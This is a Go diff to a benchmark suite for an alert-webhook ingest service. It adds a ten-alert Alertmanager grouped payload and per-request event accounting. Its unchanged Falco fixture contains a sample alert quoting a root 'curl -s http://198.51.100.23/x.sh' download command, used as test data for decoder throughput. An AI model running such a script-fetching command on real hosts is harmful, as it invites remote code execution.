@@ -10,6 +10,7 @@ import (
 	"path/filepath"
 	"runtime"
 	"slices"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"syscall"
@@ -36,6 +37,18 @@ func payload(i int64) []byte {
 		i, time.Now().UTC().Format(time.RFC3339Nano), i))
 }
 
+// groupPayload returns an Alertmanager body grouping ten alerts, as
+// Alertmanager sends a storm (group_by alertname, namespace): ten events per
+// request, each with a distinct fingerprint.
+func groupPayload(i int64) []byte {
+	at := time.Now().UTC().Format(time.RFC3339Nano)
+	var alerts []string
+	for k := range int64(10) {
+		alerts = append(alerts, fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}`, i*10+k, at, i*10+k))
+	}
+	return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
+}
+
 // falcoPayload returns a falcosidekick body with a distinct uuid.
 func falcoPayload(i int64) []byte {
 	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012d","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
@@ -44,7 +57,7 @@ func falcoPayload(i int64) []byte {
 
 // load posts b.N bodies from the given number of concurrent clients and
 // reports events/s and the 99th percentile acknowledgement latency.
-func load(b *testing.B, url string, clients int, body func(int64) []byte) {
+func load(b *testing.B, url string, clients, perRequest int, body func(int64) []byte) {
 	var n atomic.Int64
 	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients, MaxConnsPerHost: clients}}
 	b.SetParallelism(max(1, clients/runtime.GOMAXPROCS(0)))
@@ -76,8 +89,9 @@ func load(b *testing.B, url string, clients int, body func(int64) []byte) {
 			}
 		}
 	})
-	b.ReportMetric(float64(b.N)/time.Since(start).Seconds(), "events/s")
-	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/float64(b.N), "cpu-µs/event")
+	events := float64(b.N * perRequest)
+	b.ReportMetric(events/time.Since(start).Seconds(), "events/s")
+	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/events, "cpu-µs/event")
 	if len(lat) > 0 {
 		slices.Sort(lat)
 		b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds())/1000, "p99-ms")
@@ -90,22 +104,27 @@ func load(b *testing.B, url string, clients int, body func(int64) []byte) {
 // payloads at 16 and 64 concurrent senders.
 func BenchmarkIngest(b *testing.B) {
 	for _, src := range []struct {
-		name string
-		body func(int64) []byte
-		dec  sources.Decoder
-	}{{"alertmanager", payload, sources.Alertmanager{}}, {"falco", falcoPayload, sources.Falco{}}} {
+		name, hook string
+		perRequest int
+		body       func(int64) []byte
+		dec        sources.Decoder
+	}{
+		{"alertmanager", "alertmanager", 1, payload, sources.Alertmanager{}},
+		{"alertmanager-group10", "alertmanager", 10, groupPayload, sources.Alertmanager{}},
+		{"falco", "falco", 1, falcoPayload, sources.Falco{}},
+	} {
 		for _, clients := range []int{16, 64} {
 			b.Run(fmt.Sprintf("%s/c%d/bare-gin-decode", src.name, clients), func(b *testing.B) {
-				benchBare(b, src.name, clients, src.body)
+				benchBare(b, src.hook, clients, src.perRequest, src.body)
 			})
 			b.Run(fmt.Sprintf("%s/c%d/durable-inbox", src.name, clients), func(b *testing.B) {
-				benchDurable(b, src.name, clients, src.body, src.dec, false)
+				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, false)
 			})
 			// The same path with fsync off: not durable, so not a product
 			// figure, but it splits the gap to the bare handler into CPU
 			// (this row) and waiting for the flush (the row above).
 			b.Run(fmt.Sprintf("%s/c%d/inbox-nosync", src.name, clients), func(b *testing.B) {
-				benchDurable(b, src.name, clients, src.body, src.dec, true)
+				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, true)
 			})
 		}
 	}
@@ -113,7 +132,7 @@ func BenchmarkIngest(b *testing.B) {
 
 // benchBare serves a gin handler that only decodes the body into a generic
 // JSON value, the least any receiver must do.
-func benchBare(b *testing.B, name string, clients int, body func(int64) []byte) {
+func benchBare(b *testing.B, name string, clients, perRequest int, body func(int64) []byte) {
 	gin.SetMode(gin.ReleaseMode)
 	r := gin.New()
 	r.POST("/hooks/"+name, func(c *gin.Context) {
@@ -126,10 +145,10 @@ func benchBare(b *testing.B, name string, clients int, body func(int64) []byte) 
 	})
 	srv := httptest.NewServer(r)
 	defer srv.Close()
-	load(b, srv.URL+"/hooks/"+name, clients, body)
+	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
 }
 
-func benchDurable(b *testing.B, name string, clients int, body func(int64) []byte, dec sources.Decoder, noSync bool) {
+func benchDurable(b *testing.B, name string, clients, perRequest int, body func(int64) []byte, dec sources.Decoder, noSync bool) {
 	db, err := store.Open(filepath.Join(b.TempDir(), "firebreak.db"), store.Options{NoSync: noSync})
 	if err != nil {
 		b.Fatal(err)
@@ -138,7 +157,7 @@ func benchDurable(b *testing.B, name string, clients int, body func(int64) []byt
 	s := web.New(web.Config{Inbox: db, Audit: db, Engine: nopEngine{}, Sources: map[string]web.Source{name: {Decoder: dec}}})
 	srv := httptest.NewServer(s)
 	defer srv.Close()
-	load(b, srv.URL+"/hooks/"+name, clients, body)
+	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
 	commits, fns := db.CommitStats()
 	if commits > 0 {
 		b.ReportMetric(float64(fns)/float64(commits), "requests/commit")
